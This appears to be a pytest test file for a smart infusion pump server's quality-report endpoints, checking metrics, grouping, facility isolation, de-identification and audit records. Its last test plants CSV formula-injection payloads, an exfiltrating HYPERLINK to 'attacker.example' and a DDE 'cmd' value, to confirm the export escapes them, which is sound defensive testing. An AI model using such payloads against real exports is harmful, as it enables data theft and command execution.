"""CQI overview and reports over the event store: hand-counted figures, grouping, de-identification,
facility isolation, and the window checks."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest

from smartpump.server.auth import Access, Principal, Role
from smartpump.server.services import cqi
from tests.server.conftest import START, World
from tests.server.cqi_history import SECRET_MRN, CqiTeam, checked, event, north_history, south_history

OVERVIEW = "/api/v1/cqi/overview"
WINDOW = {"since": (START - timedelta(days=1)).isoformat(), "until": (START + timedelta(days=1)).isoformat()}


@pytest.fixture
def team(world: World) -> CqiTeam:
    team = CqiTeam(world)
    team.released_north_v2()
    team.store(north_history())
    team.store(south_history())
    return team


def _overview(team: CqiTeam, username: str, **params: Any) -> dict[str, Any]:
    response = team.world.client.get(OVERVIEW, headers=team.h(username), params=WINDOW | params)
    assert response.status_code == 200, response.text
    body: dict[str, Any] = response.json()
    return body


def test_headline_figures_match_the_hand_count(team: CqiTeam) -> None:
    body = _overview(team, "n-pharm")
    head = body["headline"]
    assert (body["events"], body["pumps"], body["skipped_events"]) == (20, 2, 0)
    assert (head["infusions"], head["library_starts"]) == (5, 4)
    assert head["compliance"] == pytest.approx(0.8)
    assert head["meets_target"] is False
    assert (head["programs"], head["soft_alerts"], head["hard_alerts"]) == (7, 3, 1)
    assert head["soft_per_100"] == pytest.approx(60.0)
    assert head["hard_per_100"] == pytest.approx(20.0)
    assert (head["overrides"], head["overrides_within_2s"]) == (2, 1)
    assert head["override_rate"] == pytest.approx(2 / 3)
    assert head["within_2s_rate"] == pytest.approx(0.5)
    assert (head["good_catches"], head["hard_stops"]) == (2, 1)
    assert head["max_hard_stop_factor"] == pytest.approx(35 / 30, abs=1e-4)
    assert head["auto_programmed_starts"] == 1
    assert head["auto_programmed_share"] == pytest.approx(0.2)
    assert head["outdated_starts"] == 2  # both P-2 starts ran under v1; v2 is released
    assert head["outdated_share"] == pytest.approx(0.4)
    pump_seconds = (2 * 3600 + 50) + (3600 + 5)  # first to last event of P-1, of P-2
    assert head["pump_hours"] == pytest.approx(pump_seconds / 3600)
    assert head["alarms"] == 1
    assert head["alarms_per_pump_hour"] == pytest.approx(3600 / pump_seconds)
    assert head["median_ack_s"] == pytest.approx(30.0)


def test_grouping_splits_the_figures(team: CqiTeam) -> None:
    body = _overview(team, "n-appr", group_by="pump")
    assert body["group_by"] == "pump"
    compliance = {r["pump"]: r for r in body["tables"]["compliance"]["rows"]}
    assert {p: (r["infusions"], r["library_starts"]) for p, r in compliance.items()} == {
        "P-1": (3, 3),
        "P-2": (2, 1),
    }
    overrides = {
        r["pump"]: (r["overrides"], r["overrides_within_2s"]) for r in body["tables"]["overrides"]["rows"]
    }
    assert overrides == {"P-1": (1, 1), "P-2": (1, 0)}
    outdated = {r["pump"]: r["outdated_starts"] for r in body["tables"]["outdated_library"]["rows"]}
    assert outdated == {"P-1": 0, "P-2": 2}
    week = _overview(team, "n-pharm", group_by="week")["tables"]["alerts"]
    assert [(r["week"], r["soft_alerts"], r["hard_alerts"]) for r in week["rows"]] == [("2026-03-02", 3, 1)]
    versions = _overview(team, "n-pharm", group_by="library_version")["tables"]["compliance"]["rows"]
    assert {r["library_version"]: r["infusions"] for r in versions} == {1: 2, 2: 3}
    (row,) = body["tables"]["top_entries"]["rows"]
    assert (row["entry"], row["alerts"], row["overrides"], row["good_catches"]) == ("icu-dopamine", 4, 2, 2)


def test_a_user_of_north_never_sees_south(team: CqiTeam) -> None:
    north = _overview(team, "n-pharm")
    assert [f["code"] for f in north["facilities"]] == ["north"]
    assert north["headline"]["hard_alerts"] == 1  # south's hard stop is not counted
    south = _overview(team, "s-aud")
    assert [f["code"] for f in south["facilities"]] == ["south"]
    assert (south["events"], south["headline"]["infusions"], south["headline"]["hard_alerts"]) == (5, 1, 1)
    refused = team.world.client.get(
        OVERVIEW, headers=team.h("n-pharm"), params=WINDOW | {"facility_id": team.south}
    )
    assert refused.status_code == 404
    by_pump = _overview(team, "s-pharm", group_by="pump")["tables"]["compliance"]["rows"]
    assert [r["pump"] for r in by_pump] == ["S-1"]
    auditor = team.world.as_role(Role.AUDITOR, None, username="global-aud")
    body = team.world.client.get(OVERVIEW, headers=auditor, params=WINDOW).json()
    assert {f["code"]: f["released_version"] for f in body["facilities"]} == {"north": 2, "south": None}
    assert body["headline"]["infusions"] == 6
    assert body["headline"]["outdated_starts"] == 2  # south has no release: none of its starts is outdated
    for dimension in ("entry", "pump", "library_version", "week"):
        grouped = team.world.client.get(OVERVIEW, headers=auditor, params=WINDOW | {"group_by": dimension})
        rows = grouped.json()["tables"]["outdated_library"]["rows"]
        assert sum(r["outdated_starts"] for r in rows) == 2, dimension


def test_frame_and_reports_are_de_identified_self_contained_and_audited(team: CqiTeam) -> None:
    with team.world.state.sessions() as session:
        principal = Principal(
            user_id=1, username="n-pharm", facility_roles={team.north: frozenset({Role.PHARMACIST})}
        )
        access = Access(principal=principal, roles=frozenset({Role.PHARMACIST}))
        frame = cqi.events_frame(session, access, since=None, until=None)
    assert frame.height == 20
    assert not any("patient" in c or "order" in c for c in frame.columns)
    assert SECRET_MRN not in str(frame.to_dicts())
    client = team.world.client
    csv = client.get("/api/v1/cqi/report.csv", headers=team.h("n-pharm"), params=WINDOW)
    assert csv.status_code == 200
    assert csv.headers["content-type"].startswith("text/csv")
    assert "# DERS compliance by care area (target 95 %)" in csv.text
    assert "# Outdated library use (each facility's released version)" in csv.text
    html = client.get("/api/v1/cqi/report.html", headers=team.h("n-aud"), params=WINDOW)
    assert html.status_code == 200
    assert html.headers["content-type"].startswith("text/html")
    assert "<svg" in html.text
    assert not any(token in html.text for token in ("<script", "src=", "href=", "@import"))
    assert "default-src 'none'" in html.headers["content-security-policy"]
    assert "SYNTHETIC" not in html.text
    for text in (csv.text, html.text):
        assert SECRET_MRN not in text and "O-9" not in text
    records = team.world.client.get(
        "/api/v1/audit", headers=team.h("n-aud"), params={"action": "cqi.report_exported"}
    )
    assert records.status_code == 200
    assert [(r["actor"], r["details"]["format"], r["details"]["events"]) for r in records.json()] == [
        ("n-pharm", "csv", 20),
        ("n-aud", "html", 20),
    ]


def test_window_limits_the_events_and_bad_input_is_refused_or_skipped(team: CqiTeam) -> None:
    team.store(
        [event("P-1", 50, 3 * 3600, "program.checked", "A", **checked("12", "ok", 2) | {"dose": 12.5})]
    )
    since = (START + timedelta(minutes=30)).isoformat()
    body = _overview(team, "n-pharm", since=since)
    assert body["events"] == 10  # P-1 seq 7-12 and P-2 seq 5-8 (seq 5 is at exactly 30 min: inside)
    assert body["skipped_events"] == 1  # the float dose is not an exact decimal: left out, counted
    client, headers = team.world.client, team.h("n-pharm")
    for params, code in (
        ({"since": "2026-03-01T00:00:00"}, "cqi.naive_time"),
        ({"since": "2026-03-05T00:00:00Z", "until": "2026-03-01T00:00:00Z"}, "cqi.window"),
        ({"group_by": "drug"}, "request.invalid"),
    ):
        refused = client.get(OVERVIEW, headers=headers, params=params)
        assert (refused.status_code, refused.json()["error"]["code"]) == (422, code)


def test_an_empty_store_gives_null_rates_for_every_grouping(world: World) -> None:
    facility = world.facility("north")
    headers = world.as_role(Role.PHARMACIST, facility)
    for dimension in ("care_area", "entry", "pump", "library_version", "week"):
        response = world.client.get(OVERVIEW, headers=headers, params={"group_by": dimension})
        assert response.status_code == 200, response.text
        body = response.json()
        assert (body["events"], body["headline"]["infusions"], body["headline"]["compliance"]) == (0, 0, None)
        assert body["headline"]["alarms_per_pump_hour"] is None
        assert all(table["rows"] == [] for table in body["tables"].values())


def test_report_csv_writes_a_formula_from_telemetry_as_text(world: World) -> None:
    team = CqiTeam(world)
    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"open")'
    team.store(
        [
            event("P-1", 1, 0, "program.checked", "A", **checked("5", "soft", 1, care_area=formula)),
            event("P-1", 2, 5, "infusion.started", "A", entry_id="+cmd|' /C calc'!A0", rate_ml_per_h="20"),
        ]
    )
    response = world.client.get("/api/v1/cqi/report.csv", headers=team.h("n-pharm"), params=WINDOW)
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.text, newline="")) for cell in row]
    assert "'" + formula in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
